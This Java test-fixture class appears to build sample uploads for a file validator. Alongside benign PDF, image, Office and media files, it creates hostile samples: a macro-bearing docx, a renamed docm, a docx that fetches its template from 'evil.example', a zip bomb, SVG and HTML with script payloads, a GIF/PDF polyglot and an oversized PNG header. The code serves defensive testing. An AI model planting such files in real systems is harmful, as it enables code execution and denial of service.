package vn.saolang.files;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePartName;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Good and bad files, made on the spot by the libraries that people's programmes resemble. */
public final class Samples {

    private Samples() {}

    private interface Writing {
        void to(OutputStream out) throws Exception;
    }

    private static byte[] bytes(Writing writing) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            writing.to(out);
        } catch (Exception failed) {
            throw new IllegalStateException(failed);
        }
        return out.toByteArray();
    }

    public static byte[] pdf() {
        return bytes(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.save(out);
            }
        });
    }

    public static byte[] image(String format) {
        return bytes(out -> ImageIO.write(new BufferedImage(40, 30, BufferedImage.TYPE_INT_RGB), format, out));
    }

    public static byte[] docx() {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("Biên bản họp");
                document.write(out);
            }
        });
    }

    public static byte[] xlsx() {
        return bytes(out -> {
            try (XSSFWorkbook book = new XSSFWorkbook()) {
                book.createSheet("Doanh thu").createRow(0).createCell(0).setCellValue("12,5");
                book.write(out);
            }
        });
    }

    /** A document with a macro project, whose main part still claims to be an ordinary one. */
    static byte[] docxWithMacros() {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                PackagePartName name = PackagingURIHelper.createPartName("/word/vbaProject.bin");
                try (OutputStream part = document.getPackage()
                        .createPart(name, "application/vnd.ms-office.vbaProject")
                        .getOutputStream()) {
                    part.write("macro".getBytes(StandardCharsets.UTF_8));
                }
                document.write(out);
            }
        });
    }

    /** What Word saves as .docm, renamed. */
    static byte[] docmNamedDocx() {
        return bytes(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                OPCPackage pack = document.getPackage();
                pack.replaceContentType(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml");
                document.write(out);
            }
        });
    }

    static byte[] docxThatFetchesItsTemplate() {
        return zip(
                "[Content_Types].xml",
                "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>"
                        .getBytes(StandardCharsets.UTF_8),
                "word/_rels/settings.xml.rels",
                "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/a.dotm' TargetMode='External'/></Relationships>"
                        .getBytes(StandardCharsets.UTF_8));
    }

    /** Eighty megabytes of nothing in eighty kilobytes. */
    static byte[] zipBomb() {
        return zip(
                "[Content_Types].xml",
                "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>"
                        .getBytes(StandardCharsets.UTF_8),
                "word/document.xml",
                new byte[80 * 1024 * 1024]);
    }

    static byte[] zipOfManyEntries() {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (int i = 0; i < 6_000; i++) {
                    zip.putNextEntry(new ZipEntry("word/" + i));
                }
            }
        });
    }

    static byte[] plainZip() {
        return zip("a.txt", "a".getBytes(StandardCharsets.UTF_8), "b.txt", "b".getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] zip(String first, byte[] one, String second, byte[] two) {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry(first));
                zip.write(one);
                zip.putNextEntry(new ZipEntry(second));
                zip.write(two);
            }
        });
    }

    static byte[] svg() {
        return "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                .getBytes(StandardCharsets.UTF_8);
    }

    static byte[] html() {
        return "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
    }

    /** A GIF header in front of a PDF: a lenient PDF reader would still open it. */
    static byte[] gifAndPdf() {
        return join("GIF89a\1\0\1\0\0\0\0".getBytes(StandardCharsets.ISO_8859_1), pdf());
    }

    static byte[] join(byte[]... parts) {
        return bytes(out -> {
            for (byte[] part : parts) {
                out.write(part);
            }
        });
    }

    static byte[] cut(byte[] whole, double share) {
        return Arrays.copyOf(whole, (int) (whole.length * share));
    }

    /** Ten frames of MPEG-1 layer III, 128 kbit/s, 44.1 kHz. */
    public static byte[] mp3() {
        ByteBuffer frames = ByteBuffer.allocate(417 * 10);
        for (int i = 0; i < 10; i++) {
            frames.putInt(i * 417, 0xFFFB9000);
        }
        return frames.array();
    }

    static byte[] mp3WithTag() {
        ByteBuffer tag = ByteBuffer.allocate(10 + 128);
        tag.put("ID3\3\0\0".getBytes(StandardCharsets.ISO_8859_1)).put(new byte[] {0, 0, 1, 0});
        return join(tag.array(), mp3());
    }

    public static byte[] mp4() {
        return join(box("ftyp", "isom\0\0\2\0isomiso2mp41"), box("moov", "00000000"), box("mdat", "frames"));
    }

    /** As a browser records a voice: header, a segment of unknown length, one track of this type (2 is sound), one cluster. */
    public static byte[] webm(int trackType) {
        byte[] track = {
            (byte) 0xAE, (byte) 0x86, (byte) 0xD7, (byte) 0x81, 1, (byte) 0x83, (byte) 0x81, (byte) trackType
        };
        byte[] cluster = {0x1F, 0x43, (byte) 0xB6, 0x75, (byte) 0x83, (byte) 0xE7, (byte) 0x81, 0};
        return join(
                new byte[] {0x1A, 0x45, (byte) 0xDF, (byte) 0xA3, (byte) 0x87, 0x42, (byte) 0x82, (byte) 0x84},
                "webm".getBytes(StandardCharsets.ISO_8859_1),
                new byte[] {0x18, 0x53, (byte) 0x80, 0x67, 0x01, -1, -1, -1, -1, -1, -1, -1},
                new byte[] {0x16, 0x54, (byte) 0xAE, 0x6B, (byte) 0x88},
                track,
                cluster);
    }

    /** Two pages, of which the first says what follows. */
    public static byte[] ogg(String mark) {
        return join(oggPage(2, mark), oggPage(4, "sound"));
    }

    private static byte[] oggPage(int flags, String body) {
        byte[] content = body.getBytes(StandardCharsets.ISO_8859_1);
        return ByteBuffer.allocate(28 + content.length)
                .put("OggS".getBytes(StandardCharsets.ISO_8859_1))
                .put((byte) 0)
                .put((byte) flags)
                .position(26)
                .put((byte) 1)
                .put((byte) content.length)
                .put(content)
                .array();
    }

    static byte[] quickTime() {
        return join(box("ftyp", "qt  \0\0\2\0qt  "), box("moov", "00000000"));
    }

    static byte[] box(String type, String content) {
        byte[] body = content.getBytes(StandardCharsets.ISO_8859_1);
        return ByteBuffer.allocate(8 + body.length)
                .putInt(8 + body.length)
                .put(type.getBytes(StandardCharsets.ISO_8859_1))
                .put(body)
                .array();
    }

    /** A PNG header that promises 60,000 by 60,000 points. */
    static byte[] hugePng() {
        byte[] small = image("png");
        ByteBuffer.wrap(small).putInt(16, 60_000).putInt(20, 60_000);
        CRC32 crc = new CRC32();
        crc.update(small, 12, 17);
        ByteBuffer.wrap(small).putInt(29, (int) crc.getValue());
        return small;
    }

    static byte[] oldOffice() {
        return bytes(out -> {
            try (POIFSFileSystem system = new POIFSFileSystem()) {
                system.createDocument(new ByteArrayInputStream(new byte[5000]), "EncryptedPackage");
                system.writeFilesystem(out);
            }
        });
    }
}
